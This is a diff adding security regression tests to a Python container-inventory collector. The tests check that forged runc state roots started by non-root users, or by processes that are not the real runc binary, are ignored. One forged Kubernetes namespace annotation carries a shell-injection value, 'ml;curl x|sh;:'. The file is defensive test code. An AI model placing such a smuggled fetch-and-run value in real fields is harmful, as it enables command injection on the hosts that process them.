@@ -8,7 +8,9 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import subprocess
 import tempfile
+import time
 from pathlib import Path
 
 import pytest
@@ -43,8 +45,12 @@ def _state(cid: str, bundle: str, systemd=None, path=None) -> dict:
     return st
 
 
-def _cmdline(root: Path, pid: int, *argv: str, cwd: str | None = None) -> None:
+def _cmdline(root: Path, pid: int, *argv: str, cwd: str | None = None, uid: int = 0, exe: str | None = None) -> None:
+    """A process of a built root: its cmdline, status (``Uid:`` real, effective, saved, fs) and exe link
+    (``argv[0]`` unless given)."""
     _w(root / f"proc/{pid}/cmdline", "\0".join(argv) + "\0")
+    _w(root / f"proc/{pid}/status", f"Name:\t{argv[0].rsplit('/', 1)[-1][:15]}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\n")
+    os.symlink(exe or argv[0], root / f"proc/{pid}/exe")
     if cwd:
         os.symlink(cwd, root / f"proc/{pid}/cwd")
 
@@ -275,3 +281,87 @@ def test_engine_of_a_bundle_path():
         ("containerd", "k8s.io")
     assert engines.engine_of_bundle(f"/run/containers/storage/overlay-containers/{C1}/userdata") == ("crio", None)
     assert engines.engine_of_bundle("/srv/web") == ("runc", None)
+
+
+def _forged_root(d: Path, cid: str) -> Path:
+    """A runc root in ``d`` holding one forged container: a GPU spec under the systemd driver, in pod ml/evil."""
+    spec = {**GPU_SPEC, "annotations": {"io.kubernetes.cri.sandbox-namespace": "ml;curl x|sh;:",
+                                        "io.kubernetes.cri.sandbox-name": "evil-0"}}
+    _w(d / "bundle" / cid / "config.json", spec)
+    _w(d / "state" / cid / "state.json", _state(cid, str(d / "bundle" / cid), systemd=True))
+    return d / "state"
+
+
+def test_a_runtime_root_is_learnt_only_from_roots_runtime_binary(tmp_path):
+    """Issue 27: any local user could start ``runc --root DIR`` (its own copy of a binary, named runc)
+    over a forged state.json and have ``run --root /`` record a GPU container "at risk" whose namespace
+    reached the remedies. Three real processes with ``--root``: nobody's runc (refused: not root), root's
+    process named runc whose executable is cat (refused: not runc's binary), root's runc (learnt)."""
+    d = Path(tempfile.mkdtemp(prefix="gf-runc-"))
+    procs = []
+    try:
+        d.chmod(0o755)
+        bins = d / "bin"
+        bins.mkdir()
+        shutil.copy(shutil.which("cat"), bins / "runc")  # blocks on its stdin: `runc -- - --root X` reads "-" first
+        shutil.copy(shutil.which("cat"), bins / "cat")
+        evil, named, good = (d / n for n in ("evil", "named", "good"))
+        for x in (evil, named, good):
+            x.mkdir()
+        os.chown(evil, NOBODY, NOBODY)
+        roots = [_forged_root(x, f"forged-{x.name}") for x in (evil, named, good)]
+        for x in evil.rglob("*"):
+            os.chown(x, NOBODY, NOBODY)
+        for exe, root, user in ((bins / "runc", roots[0], NOBODY), (bins / "cat", roots[1], None),
+                                (bins / "runc", roots[2], None)):
+            procs.append(subprocess.Popen(["runc", "--", "-", "--root", str(root)], executable=str(exe),
+                                          stdin=subprocess.PIPE, user=user))
+        time.sleep(0.3)
+        assert all(p.poll() is None for p in procs)
+        inv_roots = engines.Roots("/")
+        engines._proc_roots("/", inv_roots, lambda: False)
+    finally:
+        for p in procs:
+            p.kill()
+            p.wait()
+    assert str(roots[2]) in inv_roots.runc and inv_roots.runc[str(roots[2])] == [f"/proc/{procs[2].pid}/cmdline runc --root"]
+    assert str(roots[0]) not in inv_roots.runc and str(roots[1]) not in inv_roots.runc
+    assert (f"/proc/{procs[0].pid} (runc): it runs as uids {NOBODY} {NOBODY} {NOBODY} {NOBODY} (real, effective, "
+            "saved, fs), not root; no root learnt from it") in inv_roots.ignored
+    assert f"/proc/{procs[1].pid} (runc): its executable is '{bins}/cat', not runc's binary; no root learnt from it" \
+        in inv_roots.ignored
+    shutil.rmtree(d)
+
+
+def test_the_forged_container_of_a_users_runc_is_not_recorded(tmp_path):
+    """The whole collector, live (``--root /``): nobody's ``runc --root DIR`` leaves no container from DIR in
+    the bundle, and containers/roots.json names the process as ignored, with the reason."""
+    d = Path(tempfile.mkdtemp(prefix="gf-runc-"))
+    d.chmod(0o755)
+    (d / "bin").mkdir()
+    shutil.copy(shutil.which("cat"), d / "bin" / "runc")
+    evil = d / "evil"
+    state = _forged_root(evil, "forged-evil")
+    for x in [evil, *evil.rglob("*")]:
+        os.chown(x, NOBODY, NOBODY)
+    p = subprocess.Popen(["runc", "--", "-", "--root", str(state)], executable=str(d / "bin" / "runc"),
+                         stdin=subprocess.PIPE, user=NOBODY)
+    try:
+        time.sleep(0.3)
+        w = BundleWriter(tmp_path / "b")
+        containers.acquire(CollectContext(root=Path("/"), writer=w))
+        w.meta["collection"] = {"start": "2026-03-05T00:00:00Z", "end": "2026-03-05T00:00:01Z"}
+        w.finish()
+        b = Bundle.open(tmp_path / "b")
+        recs = {r["id"]: r for r in containers.read(b, NodeFacts()).facts.get("containers") or []}
+    finally:
+        p.kill()
+        p.wait()
+        shutil.rmtree(d)
+    assert "forged-evil" not in recs
+    stored = json.loads(b.path("containers/roots.json").read_text())
+    assert str(state) not in [r["path"] for r in stored["runc_roots"]]
+    [why] = [w for w in stored["ignored_processes"] if w.startswith(f"/proc/{p.pid} ")]
+    assert why.endswith("not root; no root learnt from it")
+    [art] = [a for a in b.artifacts() if a.path == "containers/roots.json"]
+    assert any("not learnt from" in n for n in art.notes)
